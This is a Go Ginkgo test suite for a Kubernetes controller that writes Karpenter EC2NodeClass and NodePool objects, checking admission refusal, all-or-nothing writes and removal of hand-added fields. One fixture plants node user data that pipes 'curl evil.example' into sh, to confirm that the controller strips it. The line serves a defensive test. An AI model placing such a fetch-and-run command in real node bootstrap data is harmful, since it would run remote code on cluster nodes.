package controllers_test

import (
	"fmt"
	"time"

	awsv1 "github.com/aws/karpenter-provider-aws/pkg/apis/v1"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/metrics"
	karpv1 "sigs.k8s.io/karpenter/pkg/apis/v1"

	v1alpha1 "github.com/poolsmith/poolsmith/api/v1alpha1"
	"github.com/poolsmith/poolsmith/internal/harness/classgen"
)

// familyVersions are the resourceVersions of a class's EC2NodeClass and NodePools.
func familyVersions(class string) func() map[string]string {
	return func() map[string]string {
		rv := map[string]string{"EC2NodeClass/" + class: get(&awsv1.EC2NodeClass{}, class).ResourceVersion}
		for _, n := range nodePoolNames(class)() {
			rv["NodePool/"+n] = get(&karpv1.NodePool{}, n).ResourceVersion
		}
		return rv
	}
}

// classEvents counts the events recorded on a class with the given reason.
func classEvents(class, reason string) func() int {
	return func() int {
		list := &eventsv1.EventList{}
		ExpectWithOffset(1, env.Client.List(ctx, list, client.InNamespace(metav1.NamespaceDefault))).To(Succeed())
		n := 0
		for _, e := range list.Items {
			if e.Regarding.Name == class && e.Regarding.Kind == "WorkloadClass" && e.Reason == reason {
				n++
			}
		}
		return n
	}
}

// metricValue reads a counter or gauge of the manager's metrics registry by one label.
func metricValue(name, label, value string) float64 {
	families, err := metrics.Registry.Gather()
	Expect(err).NotTo(HaveOccurred())
	for _, f := range families {
		if f.GetName() != name {
			continue
		}
		for _, m := range f.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == label && l.GetValue() == value {
					return m.GetCounter().GetValue() + m.GetGauge().GetValue()
				}
			}
		}
	}
	return 0
}

var _ = Describe("The write path: plan, validate, then write", func() {
	It("refuses at admission the edit that once landed half a family", func() {
		create(newBaseline("half"), newClass("half", "half"))
		waitSynced("half")
		before := familyVersions("half")()
		// Once admitted: the EC2NodeClass was applied (drifting every node), then Karpenter
		// refused every NodePool.
		wc := get(&v1alpha1.WorkloadClass{}, "half")
		wc.Spec.NodeClass = &v1alpha1.NodeClassOverrides{Tags: map[string]string{"team": "ml"}, Kubelet: awsv1.KubeletConfiguration{"maxPods": apiextensionsv1.JSON{Raw: []byte("50")}}}
		wc.Spec.Requirements = []v1alpha1.Requirement{{Key: "karpenter.k8s.aws/instance-cpu", Operator: corev1.NodeSelectorOpLt, Values: []string{"-1"}}}
		Expect(env.Client.Update(ctx, wc)).To(MatchError(ContainSubstring("spec.requirements")))
		Consistently(familyVersions("half")).Should(Equal(before))
	})

	It("writes nothing of a class when Karpenter's CRDs would refuse any part of it", func() {
		create(newBaseline("whole"), newClass("whole", "whole"))
		waitSynced("whole")
		before := familyVersions("whole")()
		errorsBefore := metricValue("poolsmith_reconcile_errors_total", "reason", v1alpha1.ReasonInvalidSpec)

		// The EC2NodeClass part of this edit is valid and would drift every node; the
		// suite's validator refuses every NodePool of it, as Karpenter's CRD would.
		wc := get(&v1alpha1.WorkloadClass{}, "whole")
		wc.Spec.NodeClass = &v1alpha1.NodeClassOverrides{Tags: map[string]string{"team": "ml"}, Kubelet: awsv1.KubeletConfiguration{"maxPods": apiextensionsv1.JSON{Raw: []byte("50")}}}
		wc.Spec.Labels = v1alpha1.NodeLabels{labelKarpenterRefuses: "yes"}
		updateClass(wc)
		Eventually(condition("whole", v1alpha1.ConditionSynced)).Should(haveCondition(metav1.ConditionFalse, v1alpha1.ReasonInvalidSpec))
		msg := condition("whole", v1alpha1.ConditionSynced)().Message
		Expect(msg).To(ContainSubstring("NodePool/whole-spot-amd64: spec.template.metadata.labels: Invalid value"))
		Expect(msg).To(ContainSubstring("NodePool/whole-on-demand-amd64"))
		Consistently(familyVersions("whole")).Should(Equal(before), "not even the valid EC2NodeClass change may be written")
		Expect(classEvents("whole", v1alpha1.ReasonInvalidSpec)()).To(Equal(1))
		Expect(metricValue("poolsmith_reconcile_errors_total", "reason", v1alpha1.ReasonInvalidSpec)-errorsBefore).To(Equal(1.0), "a terminal error is not retried")
		Expect(metricValue("poolsmith_workloadclasses_not_synced", "reason", v1alpha1.ReasonInvalidSpec)).To(BeNumerically(">=", 1))

		// Fixing the class writes the whole family at once.
		wc = get(&v1alpha1.WorkloadClass{}, "whole")
		wc.Spec.Labels = nil
		updateClass(wc)
		waitSynced("whole")
		Expect(get(&awsv1.EC2NodeClass{}, "whole").Spec.Tags).To(HaveKeyWithValue("team", "ml"))
	})

	It("never leaves a generated class half written, borderline classes included", func() {
		create(newBaseline("gen"))
		g := classgen.New(7)
		var names []string
		refused := 0
		for len(names) < 300 {
			u := &unstructured.Unstructured{Object: g.Class("gen")}
			if err := env.Client.Create(ctx, u); err != nil {
				refused++ // admission refused it
				continue
			}
			names = append(names, u.GetName())
		}
		// settled is each class's Synced condition once it reports the class's generation
		// (Unknown is not settled), from one list of the classes: a Get per class and poll
		// was 300 requests a second to the API server the manager shares.
		settled := func() map[string]*metav1.Condition {
			list := &v1alpha1.WorkloadClassList{}
			Expect(env.Client.List(ctx, list)).To(Succeed())
			out := map[string]*metav1.Condition{}
			for i := range list.Items {
				wc := &list.Items[i]
				c := meta.FindStatusCondition(wc.Status.Conditions, v1alpha1.ConditionSynced)
				if c != nil && c.ObservedGeneration == wc.Generation && c.Status != metav1.ConditionUnknown {
					out[wc.Name] = c
				}
			}
			return out
		}
		Eventually(func() int {
			conds, n := settled(), 0
			for _, name := range names {
				if conds[name] != nil {
					n++
				}
			}
			return n
		}, 4*time.Minute, time.Second).Should(Equal(len(names)))
		reasons := map[string]int{}
		conds := settled()
		for _, name := range names {
			c := conds[name]
			reasons[c.Reason]++
			pools := nodePoolNames(name)()
			hasNodeClass := exists(&awsv1.EC2NodeClass{}, name)()
			if c.Status == metav1.ConditionTrue {
				Expect(hasNodeClass).To(BeTrue(), name)
				Expect(pools).To(HaveLen(int(get(&v1alpha1.WorkloadClass{}, name).Status.PoolCount)), name)
				continue
			}
			// Never synced: not one child may have been written.
			Expect(hasNodeClass).To(BeFalse(), "%s is %s but its EC2NodeClass was written", name, c.Reason)
			Expect(pools).To(BeEmpty(), "%s is %s but NodePools were written", name, c.Reason)
		}
		GinkgoWriter.Printf("300 generated classes through the controller (%d more refused by admission): %v\n", refused, reasons)
	})

	It("removes fields of a generated child that the render does not produce", func() {
		create(newBaseline("foreign"), newClass("foreign", "foreign"))
		waitSynced("foreign")
		np := get(&karpv1.NodePool{}, "foreign-spot-amd64")
		np.Spec.Template.Spec.Taints = []corev1.Taint{{Key: "evil", Effect: corev1.TaintEffectNoExecute}}
		np.Spec.Template.Spec.StartupTaints = []corev1.Taint{{Key: "late", Effect: corev1.TaintEffectNoSchedule}}
		np.Spec.Template.Annotations = map[string]string{"example.com/hand": "added"}
		// Karpenter keeps its hash annotations in object metadata: those stay.
		metav1.SetMetaDataAnnotation(&np.ObjectMeta, "karpenter.sh/nodepool-hash", "12345")
		Expect(env.Client.Update(ctx, np)).To(Succeed())
		nc := get(&awsv1.EC2NodeClass{}, "foreign")
		nc.Spec.UserData = ptr.To("#!/bin/sh\ncurl evil.example | sh")
		Expect(env.Client.Update(ctx, nc)).To(Succeed())

		Eventually(func() string {
			got := get(&karpv1.NodePool{}, "foreign-spot-amd64")
			return fmt.Sprintf("%v %v %v", got.Spec.Template.Spec.Taints, got.Spec.Template.Spec.StartupTaints, got.Spec.Template.Annotations)
		}).Should(Equal("[] [] map[]"))
		Eventually(func() *string { return get(&awsv1.EC2NodeClass{}, "foreign").Spec.UserData }).Should(BeNil())
		Expect(get(&karpv1.NodePool{}, "foreign-spot-amd64").Annotations).To(HaveKeyWithValue("karpenter.sh/nodepool-hash", "12345"))
		waitSynced("foreign")
	})
})
